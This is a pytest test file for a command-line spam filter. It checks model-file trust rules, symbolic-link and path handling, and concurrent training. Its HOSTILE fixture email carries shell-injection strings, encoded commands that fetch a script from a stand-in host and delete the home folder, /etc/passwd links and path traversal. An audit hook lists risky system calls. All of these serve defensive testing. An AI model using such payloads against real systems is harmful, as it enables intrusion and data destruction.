"""The model file as a trust boundary, and concurrent trainers and classifiers."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from cli_helpers import assert_one_line_error, run, train_sample, without_added_header

from spamnb.store import load


@pytest.fixture
def model(tmp_path, sample_maildir):
    path = tmp_path / "model.joblib"
    result = run(
        "train", "-m", path, "--spam", sample_maildir / "spam", "--ham", sample_maildir / "ham"
    )
    assert result.exit_code == 0, result.output
    return path


def test_a_model_others_may_write_is_refused(model, sample_maildir):
    model.chmod(0o666)
    assert_one_line_error(
        run("classify", "-m", model, sample_maildir / "ham" / "new"), "--trust-model"
    )
    assert (
        run("classify", "--trust-model", "-m", model, sample_maildir / "ham" / "new").exit_code == 0
    )
    message = sorted((sample_maildir / "ham" / "cur").iterdir())[0].read_bytes()
    piped = run("classify", "--pipe", "-m", model, input=message)
    assert piped.exit_code == 3 and piped.stdout_bytes == message


def test_a_model_in_a_folder_others_may_write_is_refused(tmp_path, sample_maildir, monkeypatch):
    # Whoever may write the folder can rename another file over the model.
    shared = tmp_path / "shared"
    shared.mkdir()
    model = shared / "model.joblib"
    assert train_sample(model, sample_maildir).exit_code == 0
    message = sorted((sample_maildir / "ham" / "cur").iterdir())[0].read_bytes()
    shared.chmod(0o777)
    assert_one_line_error(run("info", "-m", model), str(shared), "others may write")
    piped = run("classify", "--pipe", "-m", model, input=message)
    assert piped.exit_code == 3 and piped.stdout_bytes == message
    assert "others may write" in piped.stderr
    assert run("info", "--trust-model", "-m", model).exit_code == 0
    # Nor is a model written where it would be refused.
    fresh = shared / "fresh.joblib"
    assert_one_line_error(train_sample(fresh, sample_maildir), "others may write")
    assert not fresh.exists()
    deeper = shared / "new" / "sub" / "model.joblib"
    assert_one_line_error(train_sample(deeper, sample_maildir), "there is no folder")
    assert not (shared / "new").exists()  # no folder made where the model is refused
    monkeypatch.setenv("XDG_DATA_HOME", str(shared / "data"))  # the default place
    assert_one_line_error(run("train", "--spam", sample_maildir / "spam"), "others may write")
    assert not (shared / "data").exists()
    monkeypatch.delenv("XDG_DATA_HOME")
    assert train_sample(fresh, sample_maildir, "--trust-model").exit_code == 0
    # A folder above counts too; a sticky one (as /tmp) lets nobody rename another's file.
    shared.chmod(0o700)
    tmp_path.chmod(0o777)
    assert_one_line_error(run("info", "-m", model), str(tmp_path), "others may write")
    tmp_path.chmod(0o1777)
    assert run("info", "-m", model).exit_code == 0


def test_a_model_in_another_users_folder_is_refused(model, monkeypatch):
    import spamnb.paths

    folder = str(model.parent)
    real_stat = os.stat

    def stat_as_if_given_away(path, *args, **kwargs):
        status = real_stat(path, *args, **kwargs)
        if os.fspath(path) == folder:
            fields = list(status)
            fields[4] = os.getuid() + 1000  # st_uid
            return os.stat_result(fields)
        return status

    monkeypatch.setattr(spamnb.paths.os, "stat", stat_as_if_given_away)
    assert_one_line_error(run("info", "-m", model), folder, "belongs to another user")
    assert run("info", "--trust-model", "-m", model).exit_code == 0


def test_links_and_dot_dots_on_the_way_to_a_model_are_followed(tmp_path, sample_maildir):
    # Whoever may write a folder holding a link on the way can point it elsewhere.
    safe, shared, home = tmp_path / "safe", tmp_path / "shared", tmp_path / "home"
    safe.mkdir()
    model = safe / "model.joblib"
    assert train_sample(model, sample_maildir).exit_code == 0
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    home.mkdir()
    (shared / "x").symlink_to("../safe")
    (shared / "link").symlink_to("../safe/model.joblib")
    (home / "model.joblib").symlink_to("../shared/link")
    message = sorted((sample_maildir / "ham" / "cur").iterdir())[0]
    for given in (
        shared / "x" / "model.joblib",  # a linked folder in a shared one
        home / "model.joblib",  # a link in the middle of a chain
        f"{shared}/x/../safe/model.joblib",  # ".." after a link, as the kernel takes it
    ):
        for command in (["classify", message], ["info"]):
            assert_one_line_error(run(command[0], "-m", given, *command[1:]), str(shared))
        piped = run("classify", "--pipe", "-m", given, input=message.read_bytes())
        assert piped.exit_code == 3 and str(shared) in piped.stderr
    assert run("info", "-m", model).exit_code == 0


def test_a_group_writable_folder_is_refused_unless_the_group_is_the_users_own(
    tmp_path, sample_maildir, monkeypatch
):
    # Debian, Ubuntu and Fedora give each user a private group and a umask of 002, so
    # every folder they make is group-writable: refused, every procmail delivery
    # stopped after an upgrade.  Any other group can hold users its member list does
    # not show, and an ACL's named users show in the group bits.
    import grp
    import pwd

    folder = tmp_path / "group"
    folder.mkdir()
    model = folder / "model.joblib"
    assert train_sample(model, sample_maildir).exit_code == 0
    folder.chmod(0o770)
    me = pwd.getpwuid(os.getuid())
    real_group = grp.getgrgid

    def group_of(members, name=None):
        def fake(gid):
            real = real_group(gid)
            return grp.struct_group((name or real.gr_name, "x", gid, members))

        return fake

    own = group_of([])
    monkeypatch.setattr(grp, "getgrgid", own)
    monkeypatch.setattr(pwd, "getpwuid", lambda uid: pwd.struct_passwd(
        (real_group(os.stat(folder).st_gid).gr_name, *me[1:3], os.stat(folder).st_gid, *me[4:])
    ))  # fmt: skip
    assert run("info", "-m", model).exit_code == 0  # the user's private group

    def user_with_primary_gid(gid):
        return lambda uid: pwd.struct_passwd(
            (real_group(os.stat(folder).st_gid).gr_name, *me[1:3], gid, *me[4:])
        )

    # Named as the user but not the user's primary group: no private group (review 12).
    monkeypatch.setattr(pwd, "getpwuid", user_with_primary_gid(os.stat(folder).st_gid + 1))
    assert_one_line_error(run("info", "-m", model), "others may write")
    monkeypatch.setattr(pwd, "getpwuid", user_with_primary_gid(os.stat(folder).st_gid))
    for fake in (group_of(["eve"]), group_of([], name="staff")):
        monkeypatch.setattr(grp, "getgrgid", fake)
        assert_one_line_error(run("info", "-m", model), "others may write")
    monkeypatch.setattr(grp, "getgrgid", own)
    monkeypatch.setattr(os, "getxattr", lambda *args: b"an ACL")
    assert_one_line_error(run("info", "-m", model), "others may write")
    monkeypatch.undo()
    folder.chmod(0o750)
    assert run("info", "-m", model).exit_code == 0


def test_a_model_of_another_user_is_refused(model, monkeypatch, sample_maildir):
    # Seen from another user: the file's owner is no longer the one running spamnb.
    owner = os.stat(model).st_uid
    monkeypatch.setattr(os, "getuid", lambda: owner + 1)
    assert_one_line_error(run("info", "-m", model), "another user")
    assert run("info", "--trust-model", "-m", model).exit_code == 0
    # classify would score through the table beside it, which is the other user's too.
    folder = sample_maildir / "ham" / "new"
    assert_one_line_error(run("classify", "-m", model, folder), "another user", str(model))
    assert run("classify", "--trust-model", "-m", model, folder).exit_code == 0


def test_a_table_others_may_write_is_not_used(model, sample_maildir, monkeypatch):
    import spamnb.store
    from spamnb.paths import table_path

    folder = sample_maildir / "ham" / "cur"
    trusted = run("classify", "-m", model, folder)
    Path(table_path(model)).chmod(0o666)
    loads = []
    real_load = spamnb.store.load
    monkeypatch.setattr(
        spamnb.store, "load", lambda *a, **k: loads.append(a[0]) or real_load(*a, **k)
    )
    result = run("classify", "-m", model, folder)
    assert result.exit_code == 0, result.output
    assert loads == [model] and result.stdout == trusted.stdout
    assert result.stderr.count("\n") == 1 and "writable by others" in result.stderr
    # The pipe filter scores with the model too, rather than with weights others set.
    message = sorted(folder.iterdir())[0].read_bytes()
    piped = run("classify", "--pipe", "-m", model, input=message)
    assert piped.exit_code == 1 and b"X-Spamnb: Ham" in piped.stdout_bytes


def spamnb(*args: str, data: bytes | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "spamnb", *args], input=data, capture_output=True, check=False
    )


def test_eight_classifiers_and_two_trainers_lose_nothing(model, tmp_path, sample_maildir):
    # Two trainers each add distinct new messages, one run at a time, while eight
    # classifiers (six pipe filters, two batch runs) read the model for a fixed number
    # of rounds: no run may fail, no count may be lost, and no filtered message may
    # come out shorter than it went in.
    originals = sorted((sample_maildir / "spam" / "cur").iterdir())[:4]
    originals += sorted((sample_maildir / "ham" / "cur").iterdir())[:4]
    new_messages = []
    for i, source in enumerate(originals):
        path = tmp_path / f"new{i}.eml"
        path.write_bytes(b"Message-ID: <concurrency-%d@test>\n" % i + source.read_bytes())
        new_messages.append(path)
    labels = ["--spam"] * 4 + ["--ham"] * 4
    before = load(model).model.class_counts.astype(int).tolist()
    rounds = 6

    def trainer(numbers):
        return [
            spamnb("train", "-m", str(model), labels[n], str(new_messages[n])).returncode
            for n in numbers
        ]

    def pipe_filter(number):
        failures = []
        for round_number in range(rounds):
            message = new_messages[(number + round_number) % len(new_messages)].read_bytes()
            done = spamnb("classify", "--pipe", "-m", str(model), data=message)
            if done.returncode not in (0, 1, 2) or not without_added_header(done.stdout, message):
                failures.append((done.returncode, len(done.stdout), len(message), done.stderr))
        return failures

    def batch_classifier():
        failures = []
        for _ in range(rounds):
            done = spamnb("classify", "-m", str(model), str(tmp_path))
            if done.returncode != 0 or done.stdout.count(b"new") != len(new_messages):
                failures.append(done.stderr.decode())
        return failures

    with ThreadPoolExecutor(max_workers=10) as pool:
        readers = [pool.submit(pipe_filter, n) for n in range(6)]
        readers += [pool.submit(batch_classifier) for _ in range(2)]
        writers = [pool.submit(trainer, [0, 1, 4, 5]), pool.submit(trainer, [2, 3, 6, 7])]
        codes = [code for w in writers for code in w.result()]
        failures = [f for r in readers for f in r.result()]
    assert codes == [0] * 8
    assert failures == []
    after = load(model).model.class_counts.astype(int).tolist()
    spam_index = load(model).classes.index("spam")
    assert after[spam_index] == before[spam_index] + 4
    assert sum(after) == sum(before) + 8
    assert not [p.name for p in model.parent.iterdir() if p.name.endswith(".tmp")]
    info = json.loads(spamnb("info", "-m", str(model), "--json").stdout)
    assert info["messages"] == {"spam": 34, "ham": 34}


# A message naming files, links, hosts and commands: every one must stay a token.
HOSTILE = b"""From: "$(touch /tmp/spamnb-owned)" <x@evil.test>
To: `id`@victim.test
Subject: =?utf-8?b?JChjdXJsIGh0dHA6Ly9ldmlsLnRlc3Qvc2gpCg==?=
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

<img src="file:///etc/passwd"><a href="http://127.0.0.1:9/fetch-me">x</a>
<link rel=stylesheet href="//evil.test/x.css"><iframe src="ftp://evil.test/x">
<object data="\\\\evil.test\\share\\x.exe"></object> see ../../../../etc/shadow
--b
Content-Type: application/octet-stream; name="/etc/passwd"
Content-Disposition: attachment; filename="../../.ssh/authorized_keys"
Content-Transfer-Encoding: base64

c2ggLWMgJ3JtIC1yZiB+Jwo=
--b
Content-Type: message/external-body; access-type=local-file; name="/etc/hostname"

--b--
"""

AUDIT_SCRIPT = r"""
import io, os, sys, json

events = []
watching = False
library = tuple({os.path.dirname(os.__file__), sys.prefix, sys.base_prefix})
RISKY = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
         "os.fork", "urllib.", "http.", "ftplib.", "webbrowser.", "shutil.", "os.symlink",
         "os.link", "os.remove", "os.rename", "os.chmod", "ctypes.", "os.startfile")

def hook(event, args):
    if not watching:
        return
    if event == "open":
        path = args[0]
        if isinstance(path, int):
            events.append(("open fd", path))
        elif not os.path.abspath(os.fsdecode(path)).startswith(library):
            events.append(("open", os.fsdecode(path)))
    elif event.startswith(RISKY):
        events.append((event, repr(args)[:200]))

sys.addaudithook(hook)
import spamnb
from spamnb import pipe
from spamnb.store import load
from spamnb.tokens import tokenize

# Lazy imports read spamnb's own modules, which is no message's doing.
library += (os.path.dirname(spamnb.__file__),)
model_path, message_path = sys.argv[1], sys.argv[2]
message = open(message_path, "rb").read()
spam_filter = load(model_path)
watching = True
tokens = tokenize(message)
spam_filter.score_tokens(spam_filter.tokenize([message]))
watching = False
# The pipe filter opens the model and its table, and nothing else.
out = io.BytesIO()
watching = True
status = pipe.run(io.BytesIO(message), out, sys.stderr, model_path)
watching = False
print(json.dumps({"events": events, "status": status, "tokens": tokens}))
"""


def test_nothing_in_a_message_makes_spamnb_touch_the_system(model, tmp_path):
    message_file = tmp_path / "hostile.eml"
    message_file.write_bytes(HOSTILE)
    done = subprocess.run(
        [sys.executable, "-c", AUDIT_SCRIPT, str(model), str(message_file)],
        capture_output=True,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr.decode()
    report = json.loads(done.stdout)
    model_files = {str(model), str(model) + ".table"}
    others = [e for e in report["events"] if not (e[0] == "open" and e[1] in model_files)]
    assert others == []
    assert report["status"] in (0, 1, 2)
    # They are only tokens: the hosts and names show up as words, nothing more.
    assert any("evil.test" in t for t in report["tokens"])
    assert not (tmp_path / "spamnb-owned").exists() and not os.path.exists("/tmp/spamnb-owned")


def test_a_model_in_the_current_directory_is_never_loaded_implicitly(
    model, tmp_path, monkeypatch, sample_maildir
):
    # A model (a program, to joblib) dropped where spamnb happens to run is not used.
    workdir = tmp_path / "downloads"
    workdir.mkdir()
    for name in ("model.joblib", "spamnb.joblib"):
        (workdir / name).write_bytes(model.read_bytes())
    monkeypatch.chdir(workdir)
    monkeypatch.delenv("SPAMNB_MODEL", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    result = run("classify", sample_maildir / "ham" / "new")
    assert_one_line_error(result, str(tmp_path / "data" / "spamnb" / "model.joblib"))
    message = sorted((sample_maildir / "ham" / "cur").iterdir())[0].read_bytes()
    piped = run("classify", "--pipe", input=message)
    assert piped.exit_code == 3 and piped.stdout_bytes == message


def test_a_model_path_that_is_no_regular_file_is_refused_and_left_alone(tmp_path, sample_maildir):
    import stat

    fifo = tmp_path / "model.fifo"
    os.mkfifo(fifo)
    # Loading would wait forever for a writer; writing would replace the FIFO.
    for args in (
        ["info"],
        ["classify", sample_maildir / "ham"],
        ["train", "--new", "--spam", sample_maildir / "spam"],
    ):
        result = run(*args[:1], "-m", fifo, *args[1:])
        assert_one_line_error(result, "not a regular file")
        assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert not (tmp_path / "model.fifo.lock").exists()


def test_a_model_others_could_write_is_saved_without_their_write_access(tmp_path, sample_maildir):
    model = tmp_path / "model.joblib"
    train_sample(model, sample_maildir)
    model.chmod(0o666)
    result = train_sample(model, sample_maildir, "--new")
    assert result.exit_code == 0, result.stderr
    assert model.stat().st_mode & 0o777 == 0o644
    assert run("info", "-m", model).exit_code == 0


def test_a_mistyped_model_path_is_not_made_into_an_empty_model(model, tmp_path, sample_maildir):
    message = sorted((sample_maildir / "spam" / "cur").iterdir())[0]
    for options in (["--forget", message], ["--spam-cutoff", "0.9"]):
        typo = tmp_path / "typo" / "modle.joblib"
        assert_one_line_error(run("train", "-m", typo, *options), "no model at")
        assert not typo.parent.exists()  # nor a lock file, nor its folder
    assert_one_line_error(run("train", "--new", "-m", model, "--spam-cutoff", "0.9"), "--spam")
    assert load(model).model.class_counts.sum() > 0


def test_paths_are_checked_by_spamnb_not_by_click(model, tmp_path, sample_maildir, monkeypatch):
    # click's own checks (readable, not a folder) ended in its usage message of three
    # lines and status 2, where every other bad path is one line and status 1.
    real_access = os.access
    monkeypatch.setattr(
        os, "access", lambda path, mode, **k: not mode & os.R_OK and real_access(path, mode, **k)
    )
    assert run("info", "-m", model).exit_code == 0  # readable after all: open() decides
    folder = tmp_path / "folder"
    folder.mkdir()
    evaluate = ["evaluate", "--spam", sample_maildir / "spam", "--ham", sample_maildir / "ham"]
    for command, said in (
        (["merge", folder, model, model], "is a folder"),
        ([*evaluate, "-m", model, "--predictions", folder], "names a folder"),
        (["evaluate", "--online", "--index", folder], "cannot read the index"),
    ):
        result = run(*command)
        assert result.exit_code == 1
        assert_one_line_error(result, said)


def test_a_named_model_goes_only_into_a_folder_that_exists(
    model, tmp_path, sample_maildir, monkeypatch
):
    # A mistyped -m made every folder on the way and a fresh model there (review 43).
    typo = tmp_path / "typo" / "sub" / "model.joblib"
    result = train_sample(typo, sample_maildir)
    assert_one_line_error(result, "there is no folder", str(typo.parent))
    assert_one_line_error(run("merge", "--force", typo, model, model), "there is no folder")
    monkeypatch.setenv("SPAMNB_MODEL", str(typo))
    assert_one_line_error(run("train", "--spam", sample_maildir / "spam"), "there is no folder")
    assert not (tmp_path / "typo").exists()
    # Nor through a link to a folder that is not there, or to a file in one (review 44).
    (tmp_path / "linked").symlink_to(tmp_path / "unmounted" / "mail")
    (tmp_path / "model-link").symlink_to(tmp_path / "typo" / "model.joblib")
    for given in (tmp_path / "linked" / "model.joblib", tmp_path / "model-link"):
        assert_one_line_error(train_sample(given, sample_maildir), "there is no folder")
    assert not (tmp_path / "unmounted").exists() and not (tmp_path / "typo").exists()
    # The default place is made, private, and also when it is named (review 44).
    monkeypatch.delenv("SPAMNB_MODEL")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert run("train", "--spam", sample_maildir / "spam").exit_code == 0
    assert (tmp_path / "data" / "spamnb" / "model.joblib").is_file()
    assert (tmp_path / "data" / "spamnb").stat().st_mode & 0o777 == 0o700
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "other"))
    named = tmp_path / "other" / "spamnb" / "model.joblib"
    assert train_sample(named, sample_maildir).exit_code == 0
    # A link in the default place is followed like any other (review 47).
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "fourth"))
    (tmp_path / "fourth" / "spamnb").mkdir(parents=True)
    (tmp_path / "fourth" / "spamnb" / "model.joblib").symlink_to(tmp_path / "gone" / "m.joblib")
    assert_one_line_error(run("train", "--spam", sample_maildir / "spam"), "there is no folder")
    assert not (tmp_path / "gone").exists()
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "third"))
    monkeypatch.setenv("SPAMNB_MODEL", str(tmp_path / "third" / "spamnb" / "model.joblib"))
    assert run("train", "--spam", sample_maildir / "spam").exit_code == 0
    assert (tmp_path / "third" / "spamnb" / "model.joblib").is_file()


def test_an_empty_path_is_named_as_empty(model, tmp_path, sample_maildir):
    # Path("") is the current folder: `-m ""` was refused as ". is a directory", and an
    # empty mail path as " does not exist", with nothing between the blanks (review 43).
    spam, ham = str(sample_maildir / "spam"), str(sample_maildir / "ham")
    for command, said in (
        (["info", "-m", ""], "--model is empty"),
        (["train", "-m", "", "--spam", spam], "--model is empty"),
        (["merge", "--force", "", model, model], "OUTPUT is empty"),
        (["train", "-m", tmp_path / "new.joblib", "--spam", ""], "a mail path is empty"),
        (["classify", "-m", model, ""], "a mail path is empty"),
        (["evaluate", "--spam", "", "--ham", ham, "--folds", "2"], "a mail path is empty"),
        (["tune", "--spam", spam, "--ham", ""], "a mail path is empty"),
        (["evaluate", "--online", "--index", ""], "--index is empty"),
    ):
        result = run(*command)
        assert result.exit_code == 1
        assert_one_line_error(result, said)
    assert not (tmp_path / "new.joblib").exists()
    piped = subprocess.run(
        [sys.executable, "-m", "spamnb", "classify", "--pipe", "-m", ""],
        input=b"Subject: hi\n\nhello\n",
        capture_output=True,
        check=False,
    )
    assert piped.returncode == 3 and piped.stdout == b"Subject: hi\n\nhello\n"
    assert piped.stderr.decode().splitlines() == [
        "spamnb: no usable model: the model path (-m) is empty"
    ]


def test_a_model_name_too_long_for_its_companions_is_refused_before_the_work(
    tmp_path, sample_maildir
):
    # The table's temporary file adds 20 bytes to the name: at 236 to 250 bytes the
    # whole run was done, and then the save failed on a name never given.
    longest = os.pathconf(tmp_path, "PC_NAME_MAX") - 20
    too_long = tmp_path / ("m" * (longest + 1))
    assert_one_line_error(train_sample(too_long, sample_maildir), f"at most {longest} bytes")
    assert list(tmp_path.iterdir()) == []  # not even the lock
    fits = tmp_path / ("m" * longest)
    assert train_sample(fits, sample_maildir).exit_code == 0
    assert load(fits).model.class_counts.sum() > 0


def test_a_path_with_a_newline_keeps_its_error_on_one_line(tmp_path, sample_maildir):
    # The model's own errors put the path in as given: a newline split the line.
    odd = tmp_path / "bad\nmodel"
    odd.write_bytes(b"not a model")
    for command in (["info", "-m", odd], ["classify", "-m", odd, sample_maildir / "ham"]):
        assert_one_line_error(run(*command), "bad\\nmodel", "not a spamnb model")
    assert_one_line_error(run("info", "-m", tmp_path / "gone\x1b[2Jmodel"), "gone\\x1b[2Jmodel")


def test_a_loop_of_links_is_no_model_and_is_not_replaced(tmp_path, sample_maildir):
    loop = tmp_path / "loop.joblib"
    loop.symlink_to(loop.name)
    assert_one_line_error(run("info", "-m", loop), "loop of symbolic links")
    assert_one_line_error(train_sample(loop, sample_maildir), "loop of symbolic links")
    assert loop.is_symlink() and os.readlink(loop) == loop.name


def test_merge_does_not_replace_a_model_a_trainer_made_meanwhile(
    tmp_path, sample_maildir, monkeypatch
):
    import spamnb.store

    parts = [tmp_path / "cur.joblib", tmp_path / "new.joblib"]
    for part, folder in zip(parts, ("cur", "new"), strict=True):
        spam, ham = (sample_maildir / label / folder for label in ("spam", "ham"))
        assert run("train", "-m", part, "--spam", spam, "--ham", ham).exit_code == 0
    model = parts[0]
    output = tmp_path / "merged.joblib"
    real_lock = spamnb.store.training_lock

    def lock_after_a_trainer(path, **kwargs):
        output.write_bytes(model.read_bytes())  # a trainer that held the lock first
        return real_lock(path, **kwargs)

    monkeypatch.setattr(spamnb.store, "training_lock", lock_after_a_trainer)
    assert_one_line_error(run("merge", output, *parts), "exists; use --force")
    assert output.read_bytes() == model.read_bytes()


def test_a_trainer_leaves_other_models_temporary_files_alone(model, tmp_path, sample_maildir):
    others = [tmp_path / ".model.joblib.old.abcd1234.tmp", tmp_path / ".model.joblibx.abcd1234.tmp"]
    own = [tmp_path / ".model.joblib.abcd1234.tmp", tmp_path / ".model.joblib.table.ab_d1234.tmp"]
    for path in others + own:
        path.write_bytes(b"written by a writer")
    assert train_sample(model, sample_maildir).exit_code == 0
    assert [path.exists() for path in others + own] == [True, True, False, False]


def test_only_a_damaged_model_is_offered_replacing(model, sample_maildir):
    model.chmod(0o666)  # refused for its write access: a good model, not to throw away
    result = train_sample(model, sample_maildir)
    assert_one_line_error(result, "--trust-model")
    assert "--new" not in result.stderr
    model.chmod(0o600)
    damaged = model.read_bytes()[:100]
    model.write_bytes(damaged)
    assert_one_line_error(train_sample(model, sample_maildir), "use --new to replace it")
    # Another kind of file is not offered replacing, and --new does not replace it.
    model.write_bytes(b"not a model at all")
    result = train_sample(model, sample_maildir)
    assert_one_line_error(result, "not a spamnb model")
    assert "--new" not in result.stderr
    assert_one_line_error(train_sample(model, sample_maildir, "--new"), "only a model is replaced")
    assert model.read_bytes() == b"not a model at all"
    model.write_bytes(damaged)
    assert train_sample(model, sample_maildir, "--new").exit_code == 0
    assert load(model).classes
    model.write_bytes(model.read_bytes()[:10])  # cut inside its magic (review 44)
    assert train_sample(model, sample_maildir, "--new").exit_code == 0
    assert load(model).classes


def test_train_new_and_merge_force_never_write_over_mail(tmp_path, sample_maildir):
    # A review's run: the model path named the mailbox being read, and --new (which the
    # refusal of the plain run suggested) wrote the model over its 30 ham.
    mbox_folder = Path(__file__).resolve().parents[1] / "corpora" / "sample" / "mbox"
    mailbox = tmp_path / "ham.mbox"
    mailbox.write_bytes((mbox_folder / "ham.mbox").read_bytes())
    original = mailbox.read_bytes()
    spam = ("--spam", mbox_folder / "spam.mbox")
    assert_one_line_error(
        run("train", "-m", mailbox, "--new", *spam, "--ham", mailbox), "only a model is replaced"
    )
    message = sorted((sample_maildir / "ham" / "cur").iterdir())[0]
    copy = tmp_path / "message.eml"
    copy.write_bytes(message.read_bytes())
    assert_one_line_error(run("train", "-m", copy, "--new", *spam), "only a model is replaced")
    parts = [tmp_path / "a.joblib", tmp_path / "b.joblib"]
    run("train", "-m", parts[0], *spam)
    run("train", "-m", parts[1], "--ham", sample_maildir / "ham")
    assert_one_line_error(run("merge", "--force", mailbox, *parts), "only a model is replaced")
    assert mailbox.read_bytes() == original
    assert copy.read_bytes() == message.read_bytes()
    # An empty file holds nothing to lose, and a model is replaced as before.
    empty = tmp_path / "empty.joblib"
    empty.write_bytes(b"")
    assert run("merge", "--force", empty, *parts).exit_code == 0
    assert run("merge", "--force", empty, *parts).exit_code == 0
    assert sorted(load(empty).classes) == ["ham", "spam"]


def test_a_trainer_that_waits_for_another_says_so(model, sample_maildir):
    import fcntl

    lock = os.open(f"{model}.lock", os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(lock, fcntl.LOCK_EX)  # another trainer, writing
    message = sorted((sample_maildir / "spam" / "cur").iterdir())[0]
    trainer = subprocess.Popen(
        [sys.executable, "-m", "spamnb", "train", "-m", str(model), "--spam", "-"],
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    trainer.stdin.write(b"Message-ID: <waiting@test>\n" + message.read_bytes())
    trainer.stdin.close()
    said = trainer.stderr.readline()
    assert b"waiting for another spamnb to finish writing" in said
    assert trainer.poll() is None  # still waiting
    fcntl.flock(lock, fcntl.LOCK_UN)
    os.close(lock)
    assert trainer.wait(timeout=60) == 0
    assert b"learned 1" in trainer.stdout.read()


def test_a_link_of_another_user_on_the_way_is_refused(model, tmp_path, monkeypatch):
    import spamnb.paths

    link = tmp_path / "current"
    link.symlink_to(model.name)
    real_lstat = os.lstat

    def lstat_as_if_given_away(path, *args, **kwargs):
        status = real_lstat(path, *args, **kwargs)
        if os.fspath(path) == str(link):
            fields = list(status)
            fields[4] = os.getuid() + 1000  # st_uid
            return os.stat_result(fields)
        return status

    monkeypatch.setattr(spamnb.paths.os, "lstat", lstat_as_if_given_away)
    assert_one_line_error(run("info", "-m", link), f"the link {link}", "another user")
    assert run("info", "-m", model).exit_code == 0


def test_a_folder_made_on_the_way_meanwhile_is_checked_again(tmp_path, monkeypatch):
    import spamnb.store
    from spamnb.paths import ModelFileError

    def made_by_someone_else(folder):
        folder.mkdir(mode=0o777, parents=True)
        folder.chmod(0o777)

    monkeypatch.setattr(spamnb.store, "_make_folder", made_by_someone_else)
    lock = spamnb.store.training_lock(tmp_path / "new" / "model.joblib")
    with pytest.raises(ModelFileError, match="others may write"), lock:
        pass


def test_a_relative_model_path_is_checked_from_the_working_folder(
    tmp_path, sample_maildir, monkeypatch
):
    # "-m model.joblib" is looked up in the working folder, which others may write
    # here: checked from "/" instead, it passed (review 12).
    folder = tmp_path / "open"
    folder.mkdir()
    model = folder / "model.joblib"
    assert train_sample(model, sample_maildir).exit_code == 0
    folder.chmod(0o777)
    monkeypatch.chdir(folder)
    message = b"Subject: hi\n\nlunch\n"
    piped = run("classify", "--pipe", "-m", "model.joblib", input=message)
    assert piped.exit_code == 3 and piped.stdout_bytes == message
    assert "others" in piped.stderr
    # The library, given the relative path as it is (the command line makes it whole).
    from spamnb.paths import ModelFileError, check_folders

    with pytest.raises(ModelFileError, match="others"):
        check_folders("model.joblib")
    folder.chmod(0o755)
    assert run("classify", "--pipe", "-m", "model.joblib", input=message).exit_code in (0, 1, 2)


@pytest.mark.parametrize(
    ("args", "status"), [(["info"], 130), (["classify", "--pipe"], 3), (["classify", "-p"], 3)]
)
def test_ctrl_c_before_the_command_starts_is_one_line(args, status):
    # Ctrl-C while the command's modules are still being imported (some 60 ms) printed
    # a traceback and ended with status 1 (review 49).  Raised here where it would be.
    code = (
        "import sys\n"
        "from spamnb import entry\n"
        "def interrupted(args):\n"
        "    raise KeyboardInterrupt\n"
        "entry.fast_pipe_options = interrupted\n"
        f"sys.argv = ['spamnb', *{args!r}]\n"
        "entry.main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], input=b"", capture_output=True, check=False, timeout=60
    )
    assert done.returncode == status
    assert done.stderr.decode().split() == ["spamnb:", "interrupted"]


def test_a_model_folder_that_may_not_be_written_is_refused_before_the_mail_is_read(
    tmp_path, sample_maildir, monkeypatch
):
    # Training counted all the mail and failed only at the save (review 49), once the
    # lock file was there.  (Root may write any folder, so its answer is faked.)
    model = tmp_path / "models" / "m.joblib"
    model.parent.mkdir()
    train_sample(model, sample_maildir)
    before = model.read_bytes()
    locked = str(model.parent)
    real_access = os.access

    def access(path, mode, *args, **kwargs):
        if os.fspath(path) == locked and mode & os.W_OK:
            return False
        return real_access(path, mode, *args, **kwargs)

    monkeypatch.setattr(os, "access", access)
    read = []
    monkeypatch.setattr("spamnb.cli.iter_labelled", lambda *a, **k: read.append(a) or iter(()))
    result = run("train", "-m", model, "--spam", sample_maildir / "spam")
    assert_one_line_error(result, f"cannot write {model}: its folder {locked} may not be written")
    assert not read and model.read_bytes() == before
    merged = run("merge", tmp_path / "models" / "merged.joblib", model, model)
    assert_one_line_error(merged, "may not be written")
